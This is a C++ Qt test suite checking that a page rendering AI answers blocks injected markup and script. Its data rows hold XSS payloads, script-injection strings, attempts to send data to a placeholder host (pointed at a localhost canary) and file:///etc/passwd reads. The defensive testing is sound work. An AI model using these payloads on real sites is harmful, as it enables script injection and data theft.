#include "page/EnginePageTest.h"
#include "page/StreamingRenderer.h"
#include "page/WebEngineSetup.h"
#include "support/TestProgram.h"

#include <QBuffer>
#include <QGuiApplication>
#include <QImage>
#include <QTcpServer>
#include <QTcpSocket>
#include <QUdpSocket>

using namespace quellora;

/// Answers that try to act: neither markup nor script in them may run. A script that gets into the
/// page anyway must not reach anything outside of it.
class TestPageHostile : public EnginePageTest
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();
    void canaryHears();
    void markupDoesNotRun_data();
    void markupDoesNotRun();
    void everyAnswerIsHarmless();
    void answerShowsNoPictures();
    void answersAreShownAsSent_data();
    void answersAreShownAsSent();
    void answerPressesNothing();
    void pageRunsNoScriptOfItsContent_data();
    void pageRunsNoScriptOfItsContent();
    void scriptPressesNothing();
    void scriptReachesNothing_data();
    void scriptReachesNothing();
    void peerConnectionsAreGone();
    void storageIsRefused();

private:
    /// Gives everything that the page has started time to take effect: two consecutive timers of
    /// the page and a turn of the engine's loop.
    void settle()
    {
        m_engine->value(QStringLiteral("window.settled = false; setTimeout(() => setTimeout(() => "
                                       "{ window.settled = true; }, 100), 100)"));
        QVERIFY(
            runUntil([&] { return m_engine->value(QStringLiteral("window.settled")).toBool(); }));
    }
    QString address(const char *scheme) const
    {
        return QStringLiteral("%1://127.0.0.1:%2")
            .arg(QLatin1StringView(scheme))
            .arg(m_canary.serverPort());
    }
    /// Replaces HTTP, WS and UDP by the canaries' addresses.
    QString aimed(QString text) const
    {
        return text.replace(QStringLiteral("HTTP"), address("http"))
            .replace(QStringLiteral("WS"), address("ws"))
            .replace(QStringLiteral("UDP"),
                     QStringLiteral("stun:127.0.0.1:%1").arg(m_udpCanary.localPort()));
    }
    void verifyUntouched()
    {
        QCOMPARE(m_hits, 0);
        QVERIFY(!m_udpCanary.hasPendingDatagrams());
        QVERIFY(m_workspace.urls.isEmpty());
        QVERIFY(m_workspace.files.isEmpty());
    }

    QTcpServer m_canary;
    QUdpSocket m_udpCanary;
    int m_hits = 0;
};

void TestPageHostile::initTestCase()
{
    QVERIFY(m_canary.listen(QHostAddress::LocalHost));
    QVERIFY(m_udpCanary.bind(QHostAddress::LocalHost, 0));
    connect(&m_canary, &QTcpServer::newConnection, this, [this] {
        while (QTcpSocket *socket = m_canary.nextPendingConnection()) {
            ++m_hits;
            socket->deleteLater();
        }
    });
}

void TestPageHostile::init()
{
    m_hits = 0;
    EnginePageTest::init();
}

void TestPageHostile::canaryHears()
{
    QTcpSocket socket;
    socket.connectToHost(QHostAddress::LocalHost, m_canary.serverPort());
    QVERIFY(runUntil([&] { return m_hits == 1; }));
}

void TestPageHostile::markupDoesNotRun_data()
{
    QTest::addColumn<QString>("answer");
    const auto row = [](const char *tag, const char *answer) {
        QTest::newRow(tag) << QString::fromUtf8(answer);
    };
    row("script", "x <script>window.pwned=1</script> y");
    row("script block", "<script>window.pwned=1</script>");
    row("script in code", "```html\n</script><script>window.pwned=1</script>\n```");
    row("script end", "</script><script>window.pwned=1</script>");
    row("comment trick", "<!--<script>\n</script><script>window.pwned=1</script>-->");
    row("image handler", "<img src=x onerror=\"window.pwned=1\">");
    row("remote image", "![i](HTTP/i.png) <img src=\"HTTP/j.png\" srcset=\"HTTP/k.png 2x\">");
    row("svg handler",
        "<svg onload=\"window.pwned=1\"><a xlink:href=\"javascript:pwned=1\"></a></svg>");
    row("math", "<math><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>");
    row("details handler", "<details open ontoggle=\"window.pwned=1\">d</details>");
    row("focus handler", "<input autofocus onfocus=\"window.pwned=1\">");
    row("frame", "<iframe src=\"HTTP/f\" srcdoc=\"<script>parent.pwned=1</script>\"></iframe>");
    row("object", "<object data=\"HTTP/o\"></object><embed src=\"HTTP/e\">");
    row("media",
        "<video src=\"HTTP/v\" onerror=\"pwned=1\" autoplay></video><audio src=\"HTTP/a\">");
    row("form", "<form action=\"HTTP/s\"><input name=a><button>go</button></form>");
    row("refresh", "<meta http-equiv=\"refresh\" content=\"0;url=HTTP/r\">");
    row("base", "<base href=\"HTTP/\">[l](l) <img src=\"rel.png\">");
    row("style", "<style>@import 'HTTP/c.css'; body{background:url(HTTP/b.png)}</style>");
    row("style attribute",
        "<div style=\"position:fixed;inset:0;background:url(HTTP/b.png)\">cover</div>");
    row("link element",
        "<link rel=stylesheet href=\"HTTP/c.css\"><link rel=prefetch href=\"HTTP/p\">");
    row("script link",
        "[a](javascript:window.pwned=1) <a href=\" jav&#x09;ascript:pwned=1\">b</a>");
    row("clobbering", "<a id=\"ct\"></a><img name=\"body\"><form id=\"streaming-response\">");
    row("page classes", "<div class=\"note-delete\" onclick=\"pwned=1\">x</div>");
}

void TestPageHostile::markupDoesNotRun()
{
    QFETCH(QString, answer);
    const QString markdown = aimed(QStringLiteral("before\n\n") + answer);
    const QString safe = QStringLiteral(
        "(() => { const ct = document.querySelector('#ct, .turn-response');"
        "const bad = 'script,style,iframe,object,embed,form,meta,base,link,svg,math,video,audio,"
        "button,[style],[onerror],[onload],[onclick],[ontoggle],[onfocus],[id],[name],"
        "[class]:not(code):not(code *)';"
        "const root = document.getElementById('streaming-response') || "
        "document.querySelector('.turn-response') || ct;"
        "return (typeof window.pwned) + ' ' + root.querySelectorAll(bad).length + ' ' + "
        "document.baseURI.startsWith('quellora-page:') + ' ' + "
        "[...root.querySelectorAll('a')].some(a => /^\\s*javascript/i.test(a.href)); })()");
    const QString expected = QStringLiteral("undefined 0 true false");

    QVERIFY(finished(m_display->loadContent(markdown)));
    QCOMPARE(m_engine->text(safe), expected);

    CaptureSession session = CaptureSession::create();
    session.addTurn(answer, markdown, QDateTime::currentDateTime());
    QVERIFY(finished(m_display->renderThread(session)));
    QCOMPARE(m_engine->text(safe), expected);

    StreamingRenderer renderer(*m_display);
    renderer.handleStreamStart(std::nullopt, answer, QDateTime::currentDateTime(), std::nullopt);
    QVERIFY(finished(m_display->latestPage()));
    renderer.handleStreamChunk(markdown.left(markdown.size() / 2));
    renderer.handleStreamChunk(markdown.mid(markdown.size() / 2));
    renderer.handleStreamEnd();
    QVERIFY(runUntil([&] {
        return m_engine
            ->text(QStringLiteral("document.getElementById('streaming-response').innerText"))
            .contains(QStringLiteral("before"));
    }));
    settle();
    QCOMPARE(m_engine->text(safe), expected);
    verifyUntouched();
}

/// The answers of hostile_answers.txt, one per line: each alone in the page, and all in one thread.
void TestPageHostile::everyAnswerIsHarmless()
{
    QFile file(QStringLiteral(HOSTILE_ANSWERS));
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QStringList answers =
        QString::fromUtf8(file.readAll()).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    // What the page itself makes of code, formulas and tables is no attack.
    const QString bad = QStringLiteral(
        "(() => { const roots = [...document.querySelectorAll('.turn-response')];"
        "if (!roots.length) roots.push(document.getElementById('ct'));"
        "const found = roots.flatMap(root => [...root.querySelectorAll('*')]).filter(e => {"
        "if (e.closest('.katex, .code-block-copy, .copy-code')) return false;"
        "if (/^(script|style|iframe|frame|object|embed|applet|form|meta|base|link|svg|math|video|"
        "audio|template|noscript|portal|fencedframe|dialog)$/i.test(e.localName)) return true;"
        "return [...e.attributes].some(a => "
        // The page marks its own task lists.
        "a.name === 'style' ? a.value !== 'list-style: none;' : "
        "/^on|^(srcset|srcdoc|ping|poster|background|action|formaction|attributionsrc|autofocus|"
        "contenteditable|accesskey)$/i.test(a.name)"
        "|| a.name === 'href' && !/^(https?:|mailto:|#)/i.test(a.value)"
        // Pictures by address stay elements; the page's policy loads none.
        "|| a.name === 'src' && /^(blob|javascript):/i.test(a.value)); });"
        "return (typeof window.pwned) + ' ' + document.baseURI.startsWith('quellora-page:') + ' ' "
        "+ "
        "found.map(e => e.outerHTML.slice(0, 200)).join(' ; '); })()");
    const QString expected = QStringLiteral("undefined true ");

    CaptureSession session = CaptureSession::create();
    for (const QString &answer : answers) {
        const QString markdown = aimed(answer);
        session.addTurn(QStringLiteral("q"), markdown, QDateTime::currentDateTime());
        QVERIFY(finished(m_display->loadContent(markdown)));
        QVERIFY2(m_engine->text(bad) == expected,
                 qPrintable(answer + QStringLiteral("\n") + m_engine->text(bad)));
        QVERIFY2(m_hits == 0, qPrintable(answer));
    }
    QVERIFY(finished(m_display->renderThread(session)));
    settle();
    QCOMPARE(m_engine->text(bad), expected);
    verifyUntouched();
    QVERIFY2(answers.size() >= 150, qPrintable(QString::number(answers.size())));
    qInfo("answers tried: %lld, connections: %d", answers.size(), m_hits);
}

/// An answer cannot show pictures by address, neither those of its own page nor of another one.
void TestPageHostile::answerShowsNoPictures()
{
    QImage image(4, 3, QImage::Format_RGB32);
    image.fill(Qt::red);
    QByteArray png;
    QBuffer buffer(&png);
    QVERIFY(image.save(&buffer, "PNG"));
    CaptureSession other = CaptureSession::create();
    other.addScreenshot(png, QDateTime::currentDateTime());
    QVERIFY(finished(m_display->renderThread(other)));
    const QString address = m_engine->text(QStringLiteral("document.querySelector('.thumb').src"));
    const QString loaded =
        QStringLiteral("[...document.images].filter(e => e.complete && e.naturalWidth > 0).length");
    ENGINE_TRY_COMPARE(m_engine->value(loaded).toInt(), 1);

    CaptureSession session = CaptureSession::create();
    session.addScreenshot(png, QDateTime::currentDateTime());
    const QString data =
        QStringLiteral("data:image/png;base64,") + QString::fromLatin1(png.toBase64());
    session.addTurn(QStringLiteral("q"),
                    aimed(QStringLiteral("![a](%1) <img src=\"%1\"> ![b](%2) <img src=\"%2\"> "
                                         "![c](0) ![d](picture/0) ![e](#0) ![f](HTTP/i.png) "
                                         "![g](QUELLORA-PAGE:1) <img src=\"\tquellora-page:1\">")
                              .arg(address, data)),
                    QDateTime::currentDateTime());
    QVERIFY(finished(m_display->renderThread(session)));
    ENGINE_TRY_COMPARE(m_engine->value(loaded).toInt(), 1);
    // The same without the sanitizer.
    const QString own = m_engine->text(QStringLiteral("document.querySelector('.thumb').src"));
    for (const QString &source :
         {address, data, own + QStringLiteral("0"), own + QStringLiteral("?"),
          QStringLiteral("quellora-page:1"), m_engine->text(QStringLiteral("location.href"))}) {
        m_engine->value(QStringLiteral("document.body.append(Object.assign(new Image(), "
                                       "{src: '%1'}))")
                            .arg(source));
    }
    settle();
    QCOMPARE(m_engine->value(loaded).toInt(), 1);
    QCOMPARE(m_engine->value(QStringLiteral("[...document.images].every(e => e.complete)")), true);
    verifyUntouched();
}

void TestPageHostile::answersAreShownAsSent_data()
{
    QTest::addColumn<QString>("answer");
    const auto row = [](const char *tag, const char *answer) {
        QTest::newRow(tag) << QString::fromUtf8(answer);
    };
    row("substitution", "echo ${HOME} and ${(window.pwned = 1, 'ran')}");
    row("unfinished substitution", "a ${ b");
    row("template literal", "const a = `x ${window.pwned = 1} y`;");
    row("template end", "`; window.pwned = 1; `");
    row("string end", "\"); window.pwned = 1; (\"");
    row("string end in single quotes", "'); window.pwned = 1; ('");
    row("escapes", "\\ \\\" \\u0022 \\` \\${x} \\u003c");
    row("script end", "</script><script>window.pwned = 1</script>");
    row("data end", "\"}}</script><script>window.pwned = 1</script>{\"raw\":\"");
    row("comment", "<!--<script>");
    row("line separators", "a\u2028b\u2029c");
}

void TestPageHostile::answersAreShownAsSent()
{
    QFETCH(QString, answer);
    // As code, so that Markdown does not change it.
    const QString markdown = QStringLiteral("~~~\n%1\n~~~").arg(answer);
    const QString shown = QStringLiteral("[...document.querySelectorAll('pre')].map(e => "
                                         "e.textContent.trim()).join('\\n')");

    QVERIFY(finished(m_display->loadContent(markdown)));
    QCOMPARE(m_engine->text(shown), answer);

    CaptureSession session = CaptureSession::create();
    session.addNote(answer, QDateTime::currentDateTime());
    session.addTurn(answer, markdown, QDateTime::currentDateTime());
    session.addTurn(answer, QStringLiteral("~~~\nthe other\n~~~"), QDateTime::currentDateTime());
    QVERIFY(finished(m_display->renderThread(session)));
    QCOMPARE(m_engine->text(shown), answer + QStringLiteral("\nthe other"));
    QCOMPARE(m_engine->text(QStringLiteral("[...document.querySelectorAll('.truncatable')].map("
                                           "e => e.textContent).join('\\n')")),
             (QStringList{answer, answer, answer}.join(QLatin1Char('\n'))));

    StreamingRenderer renderer(*m_display);
    renderer.handleStreamStart(session, answer, QDateTime::currentDateTime(), std::nullopt);
    QVERIFY(finished(m_display->latestPage()));
    for (const QChar c : markdown)
        renderer.handleStreamChunk(QString(c));
    renderer.handleStreamEnd();
    ENGINE_TRY_COMPARE(m_engine->text(shown), answer + QStringLiteral("\nthe other\n") + answer);
    QCOMPARE(m_engine->text(QStringLiteral("typeof window.pwned")), QStringLiteral("undefined"));
    verifyUntouched();
}

/// An answer that tries to press what is in its page: no script runs, no message is posted, no note
/// is deleted, nothing is requested, and the next answer is shown.
void TestPageHostile::answerPressesNothing()
{
    CaptureSession session = CaptureSession::create();
    session.addNote(QStringLiteral("keep"));
    session.addScreenshot("JPEG", QDateTime::currentDateTime());
    const QString code =
        QStringLiteral("(window.pwned = 1, document.querySelector('.note-delete').click(), "
                       "document.querySelector('.thumb').click(), "
                       "webkit.messageHandlers.noteDelete.postMessage('%1'), "
                       "setInterval(() => { for (;;) webkit.messageHandlers.scrollPosition"
                       ".postMessage(0); }), fetch('HTTP/x'))")
            .arg(uuidText(session.notes[0].id));
    session.addTurn(
        QStringLiteral("q"),
        aimed(QStringLiteral("shown ${%1}\n\n<script>%1</script>\n\n<img src=x onerror=\"%2\">\n\n"
                             "<button class=note-delete data-note=\"%3\">press</button> <a href=x "
                             "data-picture=\"0\" onclick=\"%2\">press</a>\n\n`${%1}`")
                  .arg(code, code.toHtmlEscaped(), uuidText(session.notes[0].id))),
        QDateTime::currentDateTime());
    QSignalSpy messages(&m_engine->view, &PageSurface::message);
    QSignalSpy links(&m_engine->view, &PageSurface::linkActivated);
    QSignalSpy deleted(m_display.get(), &ResponseDisplay::noteDeleteRequested);

    QVERIFY(finished(m_display->renderThread(session)));
    settle();
    QVERIFY(m_engine->text(QStringLiteral("document.querySelector('.turn-response').innerText"))
                .startsWith(QStringLiteral("shown ${(window.pwned = 1")));
    QCOMPARE(m_engine->text(QStringLiteral("typeof window.pwned")), QStringLiteral("undefined"));
    // The page's initial report, and one after it scrolled to its end.
    for (const QList<QVariant> &message : messages) {
        QCOMPARE(message[0].toString(), QStringLiteral("scrollPosition"));
        QCOMPARE(message[1].value<QVariant>().toMap().size(), 3);
    }
    QVERIFY(messages.size() <= 2);
    QVERIFY(links.isEmpty());
    QVERIFY(deleted.isEmpty());
    verifyUntouched();
    QVERIFY(m_log->lines.filter(QStringLiteral("ERROR")).isEmpty());

    // Elements of an answer cannot pose as the page's own pictures or delete buttons.
    QCOMPARE(m_engine
                 ->value(QStringLiteral("document.querySelectorAll('.turn-response [data-picture], "
                                        ".turn-response [data-note]').length"))
                 .toInt(),
             0);

    QVERIFY(finished(m_display->loadContent(QStringLiteral("the next one"))));
    QCOMPARE(m_engine->text(QStringLiteral("document.getElementById('ct').innerText.trim()")),
             QStringLiteral("the next one"));
}

void TestPageHostile::pageRunsNoScriptOfItsContent_data()
{
    QTest::addColumn<QString>("code");
    const auto row = [](const char *tag, const char *code) {
        QTest::newRow(tag) << QString::fromUtf8(code);
    };
    row("script element", "document.body.append(Object.assign(document.createElement('script'), "
                          "{textContent: 'window.pwned = 1'}))");
    row("script of the page", "document.write('<script>window.pwned = 1</scr' + 'ipt>')");
    row("handler in markup", "document.getElementById('ct').innerHTML = "
                             "'<img src=x onerror=\"window.pwned = 1\">'");
    row("handler attribute", "(() => { const e = document.getElementById('ct'); "
                             "e.setAttribute('onclick', 'window.pwned = 1'); e.click(); })()");
    row("script address", "(() => { const e = document.createElement('a'); "
                          "e.href = 'javascript:window.pwned = 1'; document.body.append(e); "
                          "e.click(); })()");
    row("eval", "eval('window.pwned = 1')");
    row("function", "new Function('window.pwned = 1')()");
    row("timer", "setTimeout('window.pwned = 1')");
    row("data script", "document.body.append(Object.assign(document.createElement('script'), "
                       "{src: 'data:text/javascript,window.pwned = 1'}))");
    row("blob script",
        "document.body.append(Object.assign(document.createElement('script'), {src: "
        "URL.createObjectURL(new Blob(['window.pwned = 1'], {type: 'text/javascript'}))}))");
    row("frame", "document.body.append(Object.assign(document.createElement('iframe'), "
                 "{srcdoc: '<script>parent.pwned = 1</scr' + 'ipt>'}))");
    row("style element", "(() => { document.head.append(Object.assign(document.createElement("
                         "'style'), {textContent: 'html { --pwned: 1 }'})); "
                         "if (getComputedStyle(document.documentElement).getPropertyValue("
                         "'--pwned')) window.pwned = 1; })()");
    row("style attribute", "(() => { const e = document.getElementById('ct'); "
                           "e.setAttribute('style', '--pwned: 1'); "
                           "if (getComputedStyle(e).getPropertyValue('--pwned')) window.pwned = 1; "
                           "})()");
}

/// The page's policy against what a flaw in the sanitizer would let through.
void TestPageHostile::pageRunsNoScriptOfItsContent()
{
    QFETCH(QString, code);
    QVERIFY(finished(m_display->loadContent(QStringLiteral("an answer"))));
    m_engine->value(QStringLiteral("try { void (%1); } catch {}").arg(code));
    settle();
    QCOMPARE(m_engine->text(QStringLiteral("typeof window.pwned")), QStringLiteral("undefined"));
    verifyUntouched();
}

/// Even a script that runs in the page cannot act for the user.
void TestPageHostile::scriptPressesNothing()
{
    CaptureSession session = CaptureSession::create();
    session.addNote(QStringLiteral("keep"));
    session.addScreenshot("JPEG", QDateTime::currentDateTime());
    session.addTurn(QStringLiteral("q"),
                    QStringLiteral("[a](https://example.com/)\n\n~~~\ncode\n~~~"),
                    QDateTime::currentDateTime());
    QVERIFY(finished(m_display->renderThread(session)));
    settle();
    QSignalSpy messages(&m_engine->view, &PageSurface::message);
    QSignalSpy links(&m_engine->view, &PageSurface::linkActivated);
    m_engine->value(QStringLiteral(
        "for (const e of document.querySelectorAll('.note-delete, .thumb, .turn-response a')) {"
        "e.click();"
        "for (const type of ['pointerdown', 'mousedown', 'mouseup', 'click'])"
        "e.dispatchEvent(new MouseEvent(type, { bubbles: true, composed: true, cancelable: true "
        "}));"
        "for (const key of ['Enter', ' '])"
        "for (const type of ['keydown', 'keypress', 'keyup'])"
        "e.dispatchEvent(new KeyboardEvent(type, { key, bubbles: true, cancelable: true })); }"
        "for (let i = 0; i < 1000; ++i) { document.body.dispatchEvent(new Event('scroll'));"
        "window.dispatchEvent(new Event('resize')); }"));
    settle();
    QCOMPARE(messages.size(), 0);
    QVERIFY(links.isEmpty());
    verifyUntouched();
}

void TestPageHostile::scriptReachesNothing_data()
{
    QTest::addColumn<QString>("code");
    const auto row = [](const char *tag, const char *code) {
        QTest::newRow(tag) << QString::fromUtf8(code);
    };
    row("fetch", "fetch('HTTP/f', {mode: 'no-cors'}).catch(() => 0)");
    row("request",
        "(() => { const x = new XMLHttpRequest; x.open('GET', 'HTTP/x'); x.send(); })()");
    row("beacon", "navigator.sendBeacon('HTTP/b', 'x')");
    row("image", "new Image().src = 'HTTP/i.png'");
    row("socket", "new WebSocket('WS/')");
    row("events", "new EventSource('HTTP/e')");
    row("script element", "document.head.append(Object.assign(document.createElement('script'), "
                          "{src: 'HTTP/s.js'}))");
    row("module", "import('HTTP/m.js').catch(() => 0)");
    row("style element", "document.head.append(Object.assign(document.createElement('style'), "
                         "{textContent: '@import \"HTTP/c.css\"; *{background:url(HTTP/u)}'}))");
    row("font", "new FontFace('x', 'url(HTTP/f.woff2)').load().catch(() => 0)");
    row("preload", "document.head.append(Object.assign(document.createElement('link'), "
                   "{rel: 'preload', as: 'image', href: 'HTTP/p'}))");
    row("preconnect", "document.head.append(Object.assign(document.createElement('link'), "
                      "{rel: 'preconnect', href: 'HTTP'}))");
    row("frame", "document.documentElement.append(Object.assign(document.createElement('iframe'), "
                 "{src: 'HTTP/f'}))");
    row("frame text", "document.documentElement.append(Object.assign(document.createElement("
                      "'iframe'), {srcdoc: '<img src=HTTP/i><script src=HTTP/s></scr' + 'ipt>'}))");
    row("worker", "new Worker(URL.createObjectURL(new Blob([`fetch('HTTP/w').catch(() => 0)`])))");
    row("location", "(location = 'HTTP/l')");
    row("location blob",
        "(location = URL.createObjectURL(new Blob(['<p>'], {type: 'text/html'})))");
    row("location data", "(location = 'data:text/html,<p>x')");
    row("location file", "(location = 'file:///etc/passwd')");
    row("location self", "(location = 'quellora-page:1')");
    row("refresh", "document.head.append(Object.assign(document.createElement('meta'), "
                   "{httpEquiv: 'refresh', content: '0;url=HTTP/r'}))");
    row("window", "open('HTTP/o')");
    row("form", "(() => { const f = document.createElement('form'); f.action = 'HTTP/s'; "
                "document.documentElement.append(f); f.submit(); })()");
    row("link", "(() => { const a = document.createElement('a'); a.href = 'HTTP/a'; "
                "document.documentElement.append(a); a.click(); a.download = 'x'; a.click(); "
                "a.ping = 'HTTP/p'; a.target = '_blank'; a.click(); })()");
    row("download", "(() => { const a = document.createElement('a'); a.href = 'data:text/plain,x'; "
                    "a.download = 'x'; document.documentElement.append(a); a.click(); })()");
    row("file", "fetch('file:///etc/passwd').catch(() => 0)");
    row("dialogs", "(alert(1), confirm(2), prompt(3))");
    row("peer connection",
        "(() => { const f = document.createElement('iframe'); document.documentElement.append(f); "
        "const C = f.contentWindow.RTCPeerConnection; if (!C) return; "
        "const p = new C({iceServers: [{urls: 'UDP'}]}); p.createDataChannel('x'); "
        "p.createOffer().then(o => p.setLocalDescription(o)); })()");
}

void TestPageHostile::scriptReachesNothing()
{
    QFETCH(QString, code);
    QVERIFY(finished(m_display->loadContent(QStringLiteral("an answer"))));
    const QString place = m_engine->text(QStringLiteral("location.href"));
    QVERIFY(place.startsWith(QStringLiteral("quellora-page:")));
    // Run by the host, bypassing the page's policy, as if an answer had managed to.
    m_engine->value(QStringLiteral("window.ran = 1; try { void (%1); } catch {}").arg(aimed(code)));
    settle();
    QCOMPARE(m_engine->text(QStringLiteral("location.href")), place);
    QCOMPARE(m_engine->value(QStringLiteral("window.ran")).toInt(), 1);
    verifyUntouched();
}

void TestPageHostile::peerConnectionsAreGone()
{
    QVERIFY(finished(m_display->loadContent(QString())));
    QCOMPARE(m_engine->text(QStringLiteral("[typeof RTCPeerConnection, typeof "
                                           "webkitRTCPeerConnection, typeof WebTransport].join()")),
             QStringLiteral("undefined,undefined,undefined"));
}

void TestPageHostile::storageIsRefused()
{
    QVERIFY(finished(m_display->loadContent(QString())));
    QCOMPARE(
        m_engine
            ->text(QStringLiteral(
                "(() => { const out = []; for (const f of [() => localStorage.setItem('a', 1), "
                "() => sessionStorage.setItem('a', 1), () => indexedDB.open('a').readyState, "
                "() => document.cookie = 'a=1'])"
                "try { out.push(f() === null ? 'null' : 'worked'); } catch (e) "
                "{ out.push('refused'); } return out.join() + origin; })()"))
            .remove(QStringLiteral("refused"))
            .remove(QLatin1Char(',')),
        QStringLiteral("null"));
}

QUELLORA_TEST_MAIN(runEngineTest<TestPageHostile>)

#include "test_page_hostile.moc"
